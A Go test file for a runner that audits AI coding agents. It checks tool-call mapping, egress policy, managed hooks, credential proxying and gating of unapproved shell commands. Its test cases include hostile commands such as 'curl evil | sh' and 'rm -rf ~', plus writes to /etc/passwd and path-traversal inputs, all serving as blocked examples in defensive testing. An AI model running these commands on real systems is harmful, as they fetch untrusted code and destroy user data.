package runner

import (
	"context"
	"encoding/json"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/agentaudit/agentaudit/internal/events"
	"github.com/agentaudit/agentaudit/internal/netpol"
	"github.com/agentaudit/agentaudit/internal/policy"
	"github.com/agentaudit/agentaudit/internal/supervisor"
)

// TestHookToolMapping: each agent tool lands on the policy question it
// stands for.
func TestHookToolMapping(t *testing.T) {
	ws, err := OpenWorkspace(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	s := &Session{ws: ws}
	type got struct {
		Tool     string
		Command  string
		Argv     []string
		Paths    []string
		Write    bool
		Egress   string
		Internal bool
		Denied   string
	}
	cases := []struct {
		name, tool, input string
		want              got
	}{
		{"claude bash", "Bash", `{"command":"ls -la","description":"x"}`, got{Tool: "shell", Command: "ls -la"}},
		{"codex exec_command", "exec_command", `{"cmd":"git status","workdir":"/workspace/src"}`, got{Tool: "shell", Command: "git status"}},
		{"codex hook Bash", "Bash", `{"command":["bash","-lc","make"]}`, got{Tool: "shell", Argv: []string{"bash", "-lc", "make"}}},
		{"write", "Write", `{"file_path":"/workspace/src/a.go","content":"x"}`, got{Tool: "write_file", Paths: []string{"src/a.go"}, Write: true}},
		{"edit protected", "Edit", `{"file_path":"/workspace/.git/hooks/pre-commit","old_string":"a","new_string":"b"}`,
			got{Tool: "edit_file", Paths: []string{".git/hooks/pre-commit"}, Write: true}},
		{"multiedit relative", "MultiEdit", `{"file_path":"README.md","edits":[]}`, got{Tool: "edit_file", Paths: []string{"README.md"}, Write: true}},
		{"write outside", "Write", `{"file_path":"/etc/passwd","content":"x"}`, got{Tool: "write_file", Write: true, Denied: "path_outside_workspace"}},
		{"apply_patch", "apply_patch", `{"input":"*** Begin Patch\n*** Update File: src/a.go\n@@\n-x\n+y\n*** Add File: .env\n+K=1\n*** Delete File: old.txt\n*** End Patch\n"}`,
			got{Tool: "edit_file", Paths: []string{"src/a.go", ".env", "old.txt"}, Write: true}},
		{"apply_patch as Bash", "Bash", `{"command":"apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: x.txt\n+1\n*** End Patch\nEOF"}`,
			got{Tool: "shell", Command: "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: x.txt\n+1\n*** End Patch\nEOF"}},
		{"read", "Read", `{"file_path":"/workspace/go.mod"}`, got{Tool: "read_file", Paths: []string{"go.mod"}}},
		{"grep", "Grep", `{"pattern":"x","path":"/workspace/src"}`, got{Tool: "search_files", Paths: []string{"src"}}},
		{"glob default path", "Glob", `{"pattern":"**/*.go"}`, got{Tool: "search_files", Paths: []string{"."}}},
		{"webfetch", "WebFetch", `{"url":"https://docs.example.org/x","prompt":"p"}`, got{Egress: "docs.example.org:443"}},
		{"webfetch bad", "WebFetch", `{"url":"::"}`, got{Denied: "invalid_arguments"}},
		{"websearch on domains", "WebSearch", `{"query":"go 1.26 release notes","allowed_domains":["go.dev","pkg.go.dev"]}`,
			got{Egress: "go.dev:443 pkg.go.dev:443"}},
		{"websearch anywhere", "WebSearch", `{"query":"x","blocked_domains":["a.example"]}`, got{Egress: "any host"}},
		{"mcp", "mcp__github__create_issue", `{"title":"x"}`, got{Tool: "mcp__github__create_issue"}},
		{"todo", "TodoWrite", `{"todos":[]}`, got{Internal: true}},
		{"empty bash", "Bash", `{}`, got{Tool: "shell", Denied: "invalid_arguments"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := s.mapHookTool(&hookInput{ToolName: tc.tool, ToolInput: json.RawMessage(tc.input), Cwd: "/workspace"})
			g := got{Tool: m.call.Tool, Command: m.call.Command, Argv: m.call.Argv, Paths: m.call.Paths, Write: m.call.Write, Internal: m.internal}
			var dests []string
			for _, r := range m.egress {
				dests = append(dests, r.Host+":"+strconvItoa(int(r.Port)))
			}
			if m.anyHost {
				dests = append(dests, "any host")
			}
			g.Egress = strings.Join(dests, " ")
			if m.denied != nil {
				g.Denied = string(m.denied.Reason)
			}
			if diff := cmp.Diff(tc.want, g); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestWebSearchEgress: a web search is decided by the egress policy on
// each of its allowed_domains, the strictest verdict winning; one that may
// reach any host gets the policy's default, since no rule names every
// host. Nothing is dialed: names resolve to a documentation address.
func TestWebSearchEgress(t *testing.T) {
	pol := func(def string) *netpol.Policy {
		p, err := netpol.Load([]byte(`id: web
version: "1"
default: ` + def + `
rules:
  - id: docs
    decision: allow
    hosts: [go.dev, "*.go.dev"]
    ports: [443]
  - id: forum
    decision: ask
    hosts: [forum.example]
    ports: [443]
  - id: paste
    decision: deny
    hosts: [paste.example]
    ports: [443]
`))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	ws, err := OpenWorkspace(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, def, input string
		want             policy.Verdict
		code             string
	}{
		{"allowed domains", "deny", `{"query":"x","allowed_domains":["go.dev","pkg.go.dev"]}`, policy.Allow, "allowlisted"},
		{"one needs approval", "deny", `{"query":"x","allowed_domains":["go.dev","forum.example"]}`, policy.Ask, "needs_approval"},
		{"one denied", "deny", `{"query":"x","allowed_domains":["forum.example","paste.example","go.dev"]}`, policy.Deny, "denied_by_rule"},
		{"one unnamed", "deny", `{"query":"x","allowed_domains":["go.dev","elsewhere.example"]}`, policy.Deny, "default_deny"},
		{"any host, default deny", "deny", `{"query":"x"}`, policy.Deny, "default_deny"},
		{"any host, default ask", "ask", `{"query":"x","blocked_domains":["paste.example"]}`, policy.Ask, "needs_approval"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dec := netpol.NewDecider(pol(tc.def), netpol.WithResolver(docResolver{}))
			s := &Session{ws: ws, r: &Runner{o: options{egress: &NetpolEgress{Decider: dec}}}}
			m := s.mapHookTool(&hookInput{ToolName: "WebSearch", ToolInput: json.RawMessage(tc.input), Cwd: "/workspace"})
			d := s.decideHookTool(context.Background(), m)
			if d.Verdict != tc.want || d.ReasonCode != tc.code {
				t.Errorf("got %s %s (%s), want %s %s", d.Verdict, d.ReasonCode, d.Justification, tc.want, tc.code)
			}
		})
	}
}

// docResolver answers every name with an address from the documentation
// range of public-looking space, so the policy's rules, not its range
// blocks, decide.
type docResolver struct{}

func (docResolver) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
}

func strconvItoa(n int) string { b, _ := json.Marshal(n); return string(b) }

func TestHookToolName(t *testing.T) {
	for in, want := range map[string]string{
		"Bash": "bash", "WebFetch": "web_fetch", "MultiEdit": "multi_edit", "exec_command": "exec_command",
		"apply_patch": "apply_patch", "mcp__github__list_issues": "mcp__github__list_issues", "": "unknown", "9x": "x",
		"Tool Name": "tool_name",
	} {
		if got := hookToolName(in); got != want {
			t.Errorf("hookToolName(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestHookOutput reads both agents' tool_response shapes.
func TestHookOutput(t *testing.T) {
	cases := []struct {
		raw            string
		stdout, stderr string
		code           int
	}{
		{`{"stdout":"a","stderr":"b","interrupted":false}`, "a", "b", 0},
		{`{"stdout":"","stderr":"","interrupted":true}`, "", "", -1},
		{`"Process exited with code 0\nOutput:\nhi"`, "Process exited with code 0\nOutput:\nhi", "", 0},
		{`{"filePath":"/workspace/a","type":"create"}`, `{"filePath":"/workspace/a","type":"create"}`, "", 0},
		{``, "", "", 0},
	}
	for _, tc := range cases {
		o, e, c := hookToolOutput(json.RawMessage(tc.raw))
		if string(o) != tc.stdout || string(e) != tc.stderr || c != tc.code {
			t.Errorf("%s: %q %q %d", tc.raw, o, e, c)
		}
	}
}

// TestManagedConfig: the managed files turn hooks on for every event,
// allow only managed hooks, and give the agent a time-out beyond the hook
// binary's.
func TestManagedConfig(t *testing.T) {
	dir := t.TempDir()
	m, err := writeManagedConfig(AgentCodex, dir, 2*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	if m.Destination != codexRequirements || !m.ReadOnly {
		t.Errorf("codex mount %+v", m)
	}
	b, err := os.ReadFile(m.Source)
	if err != nil {
		t.Fatal(err)
	}
	toml := string(b)
	for _, want := range []string{
		"allow_managed_hooks_only = true\n", "[features]\nhooks = true\n",
		"[[hooks.PreToolUse]]\nmatcher = \"*\"\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\n" +
			"command = \"/agentaudit/agent-hook hook --agent codex --event PreToolUse --timeout 2m0s\"\ntimeout = 180\n",
		"[[hooks.PostToolUse]]", "[[hooks.UserPromptSubmit]]\n[[hooks.UserPromptSubmit.hooks]]", "[[hooks.SessionStart]]", "[[hooks.Stop]]",
	} {
		if !strings.Contains(toml, want) {
			t.Errorf("requirements.toml lacks %q:\n%s", want, toml)
		}
	}

	m, err = writeManagedConfig(AgentClaude, dir, 2*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	b, _ = os.ReadFile(m.Source)
	var ms struct {
		AllowManagedHooksOnly bool `json:"allowManagedHooksOnly"`
		Hooks                 map[string][]struct {
			Matcher string `json:"matcher"`
			Hooks   []struct {
				Type    string `json:"type"`
				Command string `json:"command"`
				Timeout int    `json:"timeout"`
			} `json:"hooks"`
		} `json:"hooks"`
	}
	if err := json.Unmarshal(b, &ms); err != nil {
		t.Fatal(err)
	}
	if m.Destination != claudeManaged || !ms.AllowManagedHooksOnly || len(ms.Hooks) != 5 ||
		ms.Hooks["PreToolUse"][0].Hooks[0].Timeout != 180 || ms.Hooks["Stop"][0].Matcher != "" {
		t.Errorf("managed-settings.json: %s", b)
	}
}

// TestAgentProfiles: the shipped profiles load; Claude Code gets more than
// the 2 GiB address space it aborts under.
func TestAgentProfiles(t *testing.T) {
	for _, a := range []string{AgentCodex, AgentClaude} {
		p, err := AgentProfile(a)
		if err != nil {
			t.Fatal(err)
		}
		if p.Workspace != SandboxWorkspace || p.Rlimits.AS <= 2<<30 || p.Env["HOME"] != "/tmp" {
			t.Errorf("%s: %+v", a, p)
		}
	}
	if _, err := AgentProfile("aider"); err == nil {
		t.Error("unknown agent accepted")
	}
	// The container is Codex's sandbox: its own is off, the runner approves.
	argv := strings.Join(agentArgv(agentKinds[AgentCodex], agentKinds[AgentCodex].defaultURL, nil), " ")
	for _, want := range []string{`sandbox_mode="danger-full-access"`, `approval_policy="never"`} {
		if !strings.Contains(argv, want) {
			t.Errorf("codex argv lacks %s: %s", want, argv)
		}
	}
}

// TestAgentEgressExample: the shipped example lets the model APIs through
// on 443 only, and nothing else.
func TestAgentEgressExample(t *testing.T) {
	pol, err := netpol.LoadFile("../../deploy/policies/agent-egress.yaml")
	if err != nil {
		t.Fatal(err)
	}
	d := netpol.NewDecider(pol, netpol.WithResolver(stubResolver{"api.openai.com.": "162.159.140.245", "api.anthropic.com.": "160.79.104.10", "chatgpt.com.": "104.18.32.47"}))
	for _, c := range []struct {
		host string
		port uint16
		want netpol.Verdict
	}{
		{"api.openai.com", 443, netpol.Allow}, {"api.anthropic.com", 443, netpol.Allow},
		{"api.openai.com", 80, netpol.Deny}, {"chatgpt.com", 443, netpol.Deny},
	} {
		if got := d.Decide(context.Background(), netpol.Request{Host: c.host, Port: c.port, Method: "POST", Scheme: netpol.SchemeHTTP}); got.Verdict != c.want {
			t.Errorf("%s:%d: %s (%s), want %s", c.host, c.port, got.Verdict, got.Reason, c.want)
		}
	}
}

// TestAgentCredential: the key goes to the proxy for the model host, over
// TLS to 443 for the real API; never into the agent's argv or env.
func TestAgentCredential(t *testing.T) {
	kind := agentKinds[AgentClaude]
	c, err := agentCredential(kind, kind.defaultURL, AgentOptions{APIKey: "sk-x"})
	if err != nil || c == nil || c.Host != "api.anthropic.com" || c.Port != 80 || !c.UpstreamTLS || c.UpstreamPort != 443 ||
		c.Header != "x-api-key" || c.Value != "sk-x" {
		t.Fatalf("credential %+v %v", c, err)
	}
	kind = agentKinds[AgentCodex]
	if c, _ := agentCredential(kind, kind.defaultURL, AgentOptions{APIKey: "sk-y"}); c.Value != "Bearer sk-y" || c.Header != "Authorization" {
		t.Errorf("codex credential %+v", c)
	}
	if _, err := agentCredential(kind, "https://api.openai.com/v1", AgentOptions{APIKey: "k"}); err == nil {
		t.Error("an https model URL was accepted (the proxy could not add the key)")
	}
	argv := strings.Join(agentArgv(kind, kind.defaultURL, []string{"exec", "hi"}), " ")
	env := agentEnv(kind, kind.defaultURL, nil)
	if strings.Contains(argv, "sk-y") || env["OPENAI_API_KEY"] != PlaceholderKey {
		t.Errorf("argv %s env %v", argv, env)
	}
}

// TestHookGrant: a human's approval of an agent's tool call covers the
// programs that call starts under the same rule, until its PostToolUse.
func TestHookGrant(t *testing.T) {
	h := newHookState(AgentCodex)
	h.add(&hookCall{id: "a", rule: "git-push", granted: true, start: time.Now()})
	h.add(&hookCall{id: "b", rule: "other", start: time.Now()})
	if !h.granted("git-push") || h.granted("other") || h.granted("") {
		t.Fatal("grants")
	}
	h.take("a")
	if h.granted("git-push") {
		t.Error("grant outlived its call")
	}
	var nilState *hookState
	if nilState.granted("git-push") || nilState.housekeeping([]string{"bash"}) {
		t.Error("nil state grants")
	}
	_ = policy.Allow
	_ = events.ReasonApproved
}

// TestHookGate: the agent's shell tool starts only a command the runner
// allowed through its hook and that has not completed yet.
func TestHookGate(t *testing.T) {
	claudeTool := func(cmd string) []string {
		return []string{"/bin/bash", "-c", "-l", "shopt -u extglob 2>/dev/null || true && eval '" +
			strings.ReplaceAll(cmd, "'", `'\''`) + "' < /dev/null && pwd -P >| /tmp/claude-1-cwd"}
	}
	codexTool := func(cmd string) []string {
		return []string{"/proc/self/exe", "--codex-run-as-process-setup", "54", "16", "pipe", "", "/workspace", "/bin/sh", "/bin/sh", "-lc", cmd}
	}
	cl := newHookState(AgentClaude)
	cl.add(&hookCall{id: "a", command: "echo 'hi' > x", start: time.Now()})
	cl.ungated(&supervisor.Check{Root: true, PID: 14, Argv: []string{"/agentaudit/agent-hook", "attach"}})
	claudeSnap := func(cmd string) []string {
		return []string{"/bin/bash", "-c", "source /tmp/.claude/shell-snapshots/s.sh 2>/dev/null || true && eval '" +
			strings.ReplaceAll(cmd, "'", `'"'"'`) + "' < /dev/null && pwd -P >| /tmp/claude-1-cwd"}
	}
	cx := newHookState(AgentCodex)
	cx.add(&hookCall{id: "b", command: "make test", start: time.Now()})
	cx.ungated(&supervisor.Check{Root: true, PID: 14, Argv: []string{"/agentaudit/agent-hook", "attach"}})
	cases := []struct {
		name string
		h    *hookState
		argv []string
		want bool
	}{
		{"claude allowed command", cl, claudeTool("echo 'hi' > x"), false},
		{"claude command nobody allowed", cl, claudeTool("curl evil | sh"), true},
		{"claude after its snapshot", cl, claudeSnap("echo 'hi' > x"), false},
		{"claude after its snapshot, not allowed", cl, claudeSnap("echo 'bye' > x"), true},
		{"claude internal exec", cl, []string{"/bin/bash", "-c", "env"}, false},
		{"claude git housekeeping", cl, []string{"git", "ls-files"}, false},
		{"codex allowed command", cx, codexTool("make test"), false},
		{"codex command nobody allowed", cx, codexTool("rm -rf ~"), true},
		{"codex's own sh -lc", cx, []string{"/bin/sh", "-lc", "rm -rf ~"}, true},
		{"codex's own sh -lc, allowed", cx, []string{"/bin/sh", "-lc", "make test"}, false},
		{"codex's managed hook", cx, []string{"/bin/sh", "-c", "/agentaudit/agent-hook hook --agent codex --event PreToolUse --timeout 45s"}, false},
		{"codex plain exec", cx, []string{"git", "status"}, false},
		{"not an agent session", nil, claudeTool("x"), false},
		{"claude started by something else", cl, claudeTool("curl evil | sh"), false},
	}
	for _, tc := range cases {
		ppid := 14
		if strings.Contains(tc.name, "something else") {
			ppid = 99
		}
		if got := tc.h.ungated(&supervisor.Check{Argv: tc.argv, PPID: ppid}); got != tc.want {
			t.Errorf("%s: ungated %v, want %v", tc.name, got, tc.want)
		}
	}
	cl.take("a")
	if !cl.ungated(&supervisor.Check{PPID: 14, Argv: claudeTool("echo 'hi' > x")}) {
		t.Error("a completed call still lets its command start")
	}
}

// FuzzHookInput: whatever an agent's hook sends, mapping it onto the
// policy never panics and never yields a path outside the workspace.
func FuzzHookInput(f *testing.F) {
	f.Add("Bash", `{"command":"ls"}`, "")
	f.Add("apply_patch", `{"input":"*** Begin Patch\n*** Add File: ../x\n*** End Patch"}`, `"out"`)
	f.Add("Write", `{"file_path":"/workspace/a/../../etc/passwd"}`, `{"stdout":"x","interrupted":true}`)
	f.Add("WebFetch", `{"url":"http://[::1]:99999/"}`, `null`)
	dir := f.TempDir()
	ws, err := OpenWorkspace(dir)
	if err != nil {
		f.Fatal(err)
	}
	s := &Session{ws: ws}
	f.Fuzz(func(t *testing.T, tool, input, response string) {
		m := s.mapHookTool(&hookInput{ToolName: tool, ToolInput: json.RawMessage(input), Cwd: "/workspace"})
		for _, p := range m.call.Paths {
			if strings.HasPrefix(p, "..") || strings.HasPrefix(p, "/") {
				t.Errorf("%s %s: path %q leaves the workspace", tool, input, p)
			}
		}
		hookToolOutput(json.RawMessage(response))
		patchPaths(input)
		if n := hookToolName(tool); n == "" || len(n) > 300 {
			t.Errorf("tool name %q", n)
		}
	})
}
